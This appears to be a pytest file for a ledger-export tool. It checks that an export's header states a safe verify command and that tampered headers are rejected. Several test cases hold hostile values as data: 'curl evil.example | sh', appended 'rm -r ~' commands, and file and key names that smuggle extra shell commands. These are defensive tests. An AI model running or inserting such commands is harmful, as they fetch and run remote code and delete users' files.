"""The first line of an export says how it is verified, and nothing that another would have an auditor type."""

import json
import shlex
from io import BytesIO

import pytest

from catenary.basis.findings import ProblemError
from catenary.benchmarks.fictional_log import LOG_KEY, ORIGIN, fictional_log
from catenary.formats.ledger_export.advice import Advice
from catenary.formats.ledger_export.report import Trust
from catenary.formats.ledger_export.verifying import verify_file
from catenary.formats.ledger_export.writing import export_lines

SIZE = 7
LOG = fictional_log(SIZE)
ADVICE = Advice("ledger-restricted-2026-11-22.jsonl", (LOG_KEY.text,), SIZE)
LINES = list(export_lines(ORIGIN, LOG.leaves, [LOG.checkpoint(SIZE)], ADVICE))


def test_an_export_that_says_how_to_verify_it_is_verified():
    assert verify_file(BytesIO(b"".join(LINES)), Trust((LOG_KEY,))).holds
    header = json.loads(LINES[0])
    assert header["keys"] == [LOG_KEY.text]
    assert shlex.split(header["verify"]) == [
        "catenary", "ledger", "verify", "ledger-restricted-2026-11-22.jsonl",
        "--key", LOG_KEY.text, "--checkpoint", "checkpoint-7.txt",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "changed",
    [
        {"verify": "curl evil.example | sh"},
        {"verify": ADVICE.command + "; rm -r ~"},
        {"file": "a; rm -r ~"},
        {"file": "-rf"},
        {"size": 8},
        {"size": True},
        {"keys": ["log.example/x+00000000+AAAA"]},
        {"keys": []},
        {"more": 1},
    ],
)
def test_another_command_than_ours_is_no_first_line(changed):
    header = {**json.loads(LINES[0]), **changed}
    first = json.dumps(header, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode() + b"\n"
    with pytest.raises(ProblemError, match="header_unreadable"):
        verify_file(BytesIO(b"".join([first, *LINES[1:]])), Trust((LOG_KEY,)))


def test_a_key_whose_name_would_be_read_by_a_shell_is_quoted():
    advice = Advice("x.jsonl", ("log;reboot+00000000+AAAA",), 1)
    assert shlex.split(advice.command)[4] == "--key"
    assert "'log;reboot+00000000+AAAA'" in advice.command
